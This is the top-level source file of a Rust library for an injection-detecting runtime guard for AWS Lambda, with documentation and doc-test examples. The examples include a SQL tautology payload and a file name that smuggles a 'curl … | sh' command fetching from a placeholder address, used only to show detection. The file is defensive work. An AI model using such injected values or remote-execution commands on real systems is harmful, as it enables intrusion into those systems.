//! Policy, event model and zero-copy injection inspector of Guard, a runtime guard for AWS Lambda.
//!
//! The inspector reads an event's raw bytes and finds injection in whatever a caller can write,
//! through any nesting and encoding; an event without any costs one pass and not one allocation.
//! The policy says what follows, and, in a form that needs `core` alone, what the function may
//! connect to, open and start.
//!
//! # What it does not stop
//!
//! It sees an event, not what a handler does with it. A text that is an attack in one place and
//! everyday text in every other passes; logic is not injection; encryption and unknown encodings
//! are inspected as they stand. It does no I/O: someone else has to hand it events and carry its
//! decisions out, `lambda-guard-middleware` for one. `SECURITY.md` in the repository has the whole
//! threat model.
//!
//! # Examples
//!
//! Deciding about an event, with its record and its answer:
//!
//! ```
//! use guard_core::Policy;
//! use guard_core::decide::{Decision, Guard};
//! use guard_core::reply::Answer;
//!
//! let variables = |name: &str| (name == "GUARD_MODE").then(|| "enforce".to_owned());
//! let guard = Guard::new(Policy::from_vars(variables)?);
//!
//! let event = br#"{"customer": "x' or '1'='1"}"#;
//! let decision = guard.decide(event, "7f3c", |record| {
//!     assert_eq!((record.rule, record.subject.source), ("sql.tautology", "/customer"));
//! });
//! let Decision::Replace(Answer::Fail { error_message, .. }) = decision else { panic!() };
//! assert_eq!(error_message, "blocked by rule sql.tautology (request 7f3c)");
//!
//! let decision = guard.decide(br#"{"customer": "O'Brien or O'Neill"}"#, "7f3d", |_| panic!());
//! assert_eq!(decision, Decision::Pass);
//! # Ok::<(), guard_core::PolicyErrors>(())
//! ```
//!
//! Asking about a value that is no event:
//!
//! ```
//! use guard_core::{Families, Family, Inspector};
//!
//! let inspector = Inspector::new(Families::ALL.without(Family::Log));
//! let value = b"report.pdf;curl http://198.51.100.7/x|sh";
//! let finding = inspector.inspect_value(value).next().unwrap();
//! assert!(finding.rule.as_str().starts_with("shell."));
//! assert!(value[finding.span].starts_with(b";curl"));
//! ```
//!
//! Every error of a policy at once, each with its place and what is accepted:
//!
//! ```
//! use guard_core::Policy;
//!
//! let errors = Policy::from_vars(|name| match name {
//!     "GUARD_INSPECT" => Some("sql,xs".to_owned()),
//!     "GUARD_EGRESS_ALLOW" => Some("api.*.com".to_owned()),
//!     _ => None,
//! })
//! .unwrap_err();
//! assert_eq!(errors.errors().len(), 2);
//! assert!(errors.to_string().contains("\"xs\" is not a family (did you mean \"xss\"?)"));
//! ```
//!
//! [`event`] shows how to ask where a byte of an event stands, [`policy::compiled`] how to ask what
//! a function may do.
//!
//! # Types to know
//!
//! - [`Policy`]: every setting, read from variables and a file. [`policy::settings`] is the table
//!   of them; the README of the repository shows it.
//! - [`decide::Guard`]: a policy at work on events. Most callers need nothing else.
//! - [`Inspector`] and [`Finding`]: the inspector alone.
//! - [`policy::CompiledPolicy`]: decisions about connections, files and programs, from flat bytes.
//! - [`audit::AuditRecord`]: one line of JSON for each decision.
//! - [`secret::Secrets`]: the function's own secrets, to be looked for in what leaves it.
//!
//! `DESIGN.md` beside this crate's manifest explains how the inspector and the policy's image work.
//!
//! # Features
//!
//! - `std` (default): everything. Without it only [`policy::compiled`] is left, with `core` alone,
//!   for code that decides inside other programs.
//!
//! # Platforms
//!
//! | target | the inspector's search |
//! |---|---|
//! | x86-64 | vectors of 64 bytes with AVX-512 VBMI, of 32 with AVX2, of 16 with SSSE3, chosen at run time; one byte after the other without |
//! | aarch64 | vectors of 16 bytes |
//! | others | one byte after the other |
#![cfg_attr(not(feature = "std"), no_std)]
#![warn(missing_docs)]

#[cfg(feature = "std")]
pub mod audit;
#[cfg(feature = "std")]
pub mod decide;
#[cfg(feature = "std")]
pub mod error;
#[cfg(feature = "std")]
pub mod event;
#[cfg(feature = "std")]
pub mod inspect;
#[cfg(feature = "std")]
mod json;
pub mod policy;
#[cfg(test)]
mod random;
#[cfg(feature = "std")]
pub mod reply;
#[cfg(feature = "std")]
mod rule;
#[cfg(feature = "std")]
pub mod secret;
#[cfg(feature = "std")]
pub mod verdict;

#[cfg(feature = "std")]
pub use error::{PolicyError, PolicyErrors};
#[cfg(feature = "std")]
pub use inspect::{Finding, Inspector};
#[cfg(feature = "std")]
pub use policy::Policy;
#[cfg(feature = "std")]
pub use rule::{Families, Family, RuleId};
